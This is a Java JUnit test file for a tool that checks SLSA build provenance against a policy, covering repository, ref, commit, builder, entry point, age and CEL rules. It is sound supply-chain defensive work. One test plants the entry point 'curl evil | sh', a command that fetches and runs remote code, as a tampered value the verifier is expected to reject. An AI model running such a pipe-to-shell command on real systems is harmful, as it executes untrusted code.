package dev.countersign.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.countersign.core.InvalidInputException;
import dev.countersign.core.VerificationCheck;
import dev.countersign.core.VerificationCheck.Status;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;

class PolicyEvaluationTest {
  static final Instant NOW = Instant.parse("2026-11-25T00:00:00Z");
  static final String COMMIT = "4f1c2a9e8b7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b";

  static ProvenancePolicy.Builder ours() {
    return ProvenancePolicy.builder()
        .predicateType("https://slsa.dev/provenance/v1")
        .sourceRepository("github.com/acme/web")
        .sourceRef("refs/heads/main")
        .sourceCommit(COMMIT)
        .builderId("https://ci.example.com/builders/linux@v1")
        .buildType("https://ci.example.com/buildtypes/make/v1")
        .entryPoint("make image")
        .requiredExternalParameter("target", "linux/amd64")
        .maxAge(Duration.ofHours(720))
        .rule("no-dirty-tree", "!has(predicate.buildDefinition.externalParameters.dirty)");
  }

  static PolicyEvaluation evaluate(ProvenancePolicy.Builder policy, String statement) {
    return PolicyEvaluator.builder(policy.build()).build().evaluate(Statements.bytes(statement), NOW);
  }

  static PolicyEvaluation evaluate(ProvenancePolicy.Builder policy, ObjectNode statement) {
    return PolicyEvaluator.builder(policy.build()).build().evaluate(statement, NOW);
  }

  static VerificationCheck only(PolicyEvaluation e, String failedCheck) {
    assertFalse(e.passed(), e::toString);
    List<VerificationCheck> failed = e.report().failures();
    assertEquals(1, failed.size(), e::toString);
    assertEquals(failedCheck, failed.get(0).name(), e::toString);
    return failed.get(0);
  }

  @Test
  void ownGeneratorShapePassesEveryCheck() {
    PolicyEvaluation e = evaluate(ours(), "countersign-v1.json");
    assertTrue(e.passed(), e::toString);
    assertEquals(List.of("predicate-type", "source-repository", "source-ref", "source-commit",
        "source-commit-reachable", "builder-id", "build-type", "entry-point", "external-parameter:target", "max-age",
        "rule:no-dirty-tree"), e.checks().stream().map(VerificationCheck::name).toList());
    assertEquals(Status.NOT_PERFORMED, e.report().check("source-commit-reachable").orElseThrow().status());
    assertTrue(e.rejectionReason().isEmpty());
  }

  @Test
  void sourceRepositoryMismatchHasTheReasonLine() {
    PolicyEvaluation e = evaluate(ours(), with(s -> {
      String evil = "git+https://github.com/evil/web@refs/heads/main";
      s.with("predicate").with("buildDefinition").with("externalParameters").put("source", evil);
      ((ObjectNode) s.at("/predicate/buildDefinition/resolvedDependencies/0")).put("uri", evil);
      return s;
    }));
    VerificationCheck c = only(e, "source-repository");
    assertEquals("github.com/evil/web", c.actual().orElseThrow());
    assertEquals("build provenance mismatch: source repository expected github.com/acme/web, got github.com/evil/web",
        e.rejectionReason().orElseThrow());
  }

  @Test
  void aCommitOfAnotherRepositoryIsNotTheSourceCommit() {
    PolicyEvaluation e = evaluate(ours(), with(s -> {
      ((ObjectNode) s.at("/predicate/buildDefinition/resolvedDependencies/0"))
          .put("uri", "git+https://github.com/acme/other@refs/heads/main");
      return s;
    }));
    assertEquals("absent", only(e, "source-commit").actual().orElseThrow());
  }

  @Test
  void sourceRefMismatch() {
    PolicyEvaluation e = evaluate(ours().sourceRef("refs/tags/v*"), with(s -> {
      String dev = "git+https://github.com/acme/web@refs/heads/dev";
      s.with("predicate").with("buildDefinition").with("externalParameters").put("source", dev);
      ((ObjectNode) s.at("/predicate/buildDefinition/resolvedDependencies/0")).put("uri", dev);
      return s;
    }));
    VerificationCheck c = only(e, "source-ref");
    assertEquals("one of [refs/heads/main, refs/tags/v*]", c.expected().orElseThrow());
    assertEquals("refs/heads/dev", c.actual().orElseThrow());
  }

  @Test
  void sourceCommitMismatch() {
    PolicyEvaluation e = evaluate(ours().sourceCommit("0".repeat(40)).sourceCommit("1".repeat(64))
        .sourceRef("refs/heads/x"), with(s -> {
          ((ObjectNode) s.at("/predicate/buildDefinition/resolvedDependencies/0/digest"))
              .put("gitCommit", "b".repeat(40));
          return s;
        }));
    assertEquals("b".repeat(40), only(e, "source-commit").actual().orElseThrow());
  }

  @Test
  void commitsCompareCaseInsensitively() {
    assertTrue(evaluate(ours(), with(s -> {
      ((ObjectNode) s.at("/predicate/buildDefinition/resolvedDependencies/0/digest"))
          .put("gitCommit", COMMIT.toUpperCase(java.util.Locale.ROOT));
      return s;
    })).passed());
  }

  @Test
  void builderIdMismatchAndPrefix() {
    PolicyEvaluation e = evaluate(ProvenancePolicy.builder().builderId("https://ci.example.com/builders/linux@v2")
        .builderIdPrefix("https://ci.example.com/trusted/"), "countersign-v1.json");
    VerificationCheck c = only(e, "builder-id");
    assertEquals("one of [https://ci.example.com/builders/linux@v2, https://ci.example.com/trusted/*]",
        c.expected().orElseThrow());
    assertTrue(evaluate(ProvenancePolicy.builder().builderIdPrefix("https://ci.example.com/builders/"),
        "countersign-v1.json").passed());
  }

  @Test
  void buildTypeMismatch() {
    PolicyEvaluation e = evaluate(ProvenancePolicy.builder().buildType("https://ci.example.com/buildtypes/bazel/v1"),
        "countersign-v1.json");
    assertEquals("https://ci.example.com/buildtypes/make/v1", only(e, "build-type").actual().orElseThrow());
    assertEquals("build provenance mismatch: build type expected https://ci.example.com/buildtypes/bazel/v1, got "
        + "https://ci.example.com/buildtypes/make/v1", e.rejectionReason().orElseThrow());
  }

  @Test
  void entryPointMismatch() {
    PolicyEvaluation e = evaluate(ProvenancePolicy.builder().entryPoint("make release"), with(s -> {
      s.with("predicate").with("buildDefinition").with("externalParameters").put("entryPoint", "curl evil | sh");
      return s;
    }));
    assertEquals("curl evil | sh", only(e, "entry-point").actual().orElseThrow());
  }

  @Test
  void externalParameterMismatchAndAbsence() {
    PolicyEvaluation e = evaluate(ProvenancePolicy.builder().requiredExternalParameter("target", "linux/arm64")
        .requiredExternalParameter("dirty", "false"), "countersign-v1.json");
    assertFalse(e.passed());
    assertEquals("linux/amd64", e.report().check("external-parameter:target").orElseThrow().actual().orElseThrow());
    assertEquals("absent", e.report().check("external-parameter:dirty").orElseThrow().actual().orElseThrow());
    assertEquals("build provenance mismatch: external parameter target expected linux/arm64, got linux/amd64"
        + " (and 1 more failed check)", e.rejectionReason().orElseThrow());
  }

  @Test
  void externalParameterByDottedPath() {
    assertTrue(evaluate(ProvenancePolicy.builder().requiredExternalParameter("substitutions._DEPLOY_ENV", "prod"),
        "cloud-build-v1.json").passed());
  }

  @Test
  void tooOldFutureAndMissingTime() {
    VerificationCheck old = only(evaluate(ProvenancePolicy.builder().maxAge(Duration.ofHours(24)),
        "countersign-v1.json"), "max-age");
    assertEquals("at most 24h", old.expected().orElseThrow());
    assertEquals("109h55m48s", old.actual().orElseThrow());
    VerificationCheck future = only(evaluate(ProvenancePolicy.builder().maxAge(Duration.ofHours(24)), with(s -> {
      ((ObjectNode) s.at("/predicate/runDetails/metadata")).put("finishedOn", "2026-11-26T00:00:00Z");
      return s;
    })), "max-age");
    assertEquals("in the future", future.actual().orElseThrow());
    // GitHub's provenance carries no build time: with maxAge set that is a failure, not a pass
    VerificationCheck missing = only(evaluate(ProvenancePolicy.builder().maxAge(Duration.ofHours(24)),
        "github-actions-v1.json"), "max-age");
    assertTrue(missing.detail().orElseThrow().contains("no build time"), missing::toString);
  }

  @Test
  void startedOnIsUsedWhenFinishedOnIsAbsent() {
    PolicyEvaluation e = evaluate(ProvenancePolicy.builder().maxAge(Duration.ofHours(200)), with(s -> {
      ((ObjectNode) s.at("/predicate/runDetails/metadata")).remove("finishedOn");
      return s;
    }));
    assertTrue(e.report().check("max-age").orElseThrow().detail().orElseThrow().contains("startedOn"));
  }

  @Test
  void predicateTypeMismatchAndTypedChecksOnNonProvenance() {
    PolicyEvaluation e = evaluate(ProvenancePolicy.builder().predicateType("https://slsa.dev/provenance/v1")
        .sourceRepository("github.com/acme/web"), "cyclonedx.json");
    assertEquals(2, e.report().failures().size());
    assertEquals("https://cyclonedx.org/bom", e.report().check("predicate-type").orElseThrow().actual().orElseThrow());
    assertEquals("the statement is not SLSA provenance (v1 or v0.2)",
        e.report().check("source-repository").orElseThrow().detail().orElseThrow());
  }

  @Test
  void celRuleFailure() {
    PolicyEvaluation e = evaluate(ProvenancePolicy.builder().rule("no-dirty-tree",
        "!has(predicate.buildDefinition.externalParameters.dirty)"), with(s -> {
          s.with("predicate").with("buildDefinition").with("externalParameters").put("dirty", true);
          return s;
        }));
    assertEquals("false", only(e, "rule:no-dirty-tree").actual().orElseThrow());
    assertEquals("build provenance mismatch: rule no-dirty-tree expected true, got false",
        e.rejectionReason().orElseThrow());
  }

  @Test
  void celRulesSeeEveryVariable() {
    assertTrue(evaluate(ProvenancePolicy.builder()
        .rule("vars", "statement._type == 'https://in-toto.io/Statement/v1' && predicateType.startsWith('https://slsa')"
            + " && subject.size() == 1 && subject[0].digest.sha256.size() == 64"
            + " && predicate.runDetails.builder.id.endsWith('@v1')"), "countersign-v1.json").passed());
  }

  @Test
  void celRuleErrorIsAFailureNotAPass() {
    PolicyEvaluation e = evaluate(ProvenancePolicy.builder().rule("missing", "predicate.nothing.here == 1"),
        "countersign-v1.json");
    VerificationCheck c = only(e, "rule:missing");
    assertTrue(c.detail().orElseThrow().startsWith("evaluation error"), c::toString);
  }

  @Test
  void reachabilityUsesTheCallersGraph() {
    ProvenancePolicy.Builder p = ProvenancePolicy.builder().commitReachableFrom("refs/heads/main");
    PolicyEvaluation noGraph = evaluate(p, "countersign-v1.json");
    assertTrue(only(noGraph, "source-commit-reachable").detail().orElseThrow().contains("no CommitGraph"));
    ProvenancePolicy policy = p.build();
    CommitGraph graph = (repo, commit, ref) -> repo.equals("github.com/acme/web") && commit.equals(COMMIT)
        && ref.equals("refs/heads/main");
    assertTrue(PolicyEvaluator.builder(policy).commitGraph(graph).build()
        .evaluate(Statements.bytes("countersign-v1.json"), NOW).passed());
    PolicyEvaluation unreachable = PolicyEvaluator.builder(policy).commitGraph((r, c, ref) -> false).build()
        .evaluate(Statements.bytes("countersign-v1.json"), NOW);
    assertEquals(COMMIT + " not reachable", only(unreachable, "source-commit-reachable").actual().orElseThrow());
  }

  @Test
  void emptyPolicyAcceptsNothing() {
    PolicyEvaluation e = evaluate(ProvenancePolicy.builder(), "countersign-v1.json");
    assertFalse(e.passed());
    assertTrue(e.rejectionReason().orElseThrow().contains("checked nothing"));
  }

  @Test
  void malformedStatementsAreInvalidInput() {
    PolicyEvaluator ev = PolicyEvaluator.builder(ours().build()).build();
    assertThrows(InvalidInputException.class, () -> ev.evaluate("{\"a\":1,\"a\":2}".getBytes(), NOW));
    assertThrows(InvalidInputException.class, () -> ev.evaluate("[]".getBytes(), NOW));
    assertThrows(InvalidInputException.class, () -> ev.evaluate(new byte[0], NOW));
    assertThrows(InvalidInputException.class, () -> ev.evaluate(("{\"predicateType\":\"x\",\"subject\":[],"
        + "\"predicate\":{}}").getBytes(), NOW));
    assertThrows(InvalidInputException.class, () -> ev.evaluate("{\"predicateType\":\"x\"} trailing".getBytes(), NOW));
  }

  static ObjectNode with(UnaryOperator<ObjectNode> change) {
    return change.apply(Statements.tree("countersign-v1.json"));
  }
}
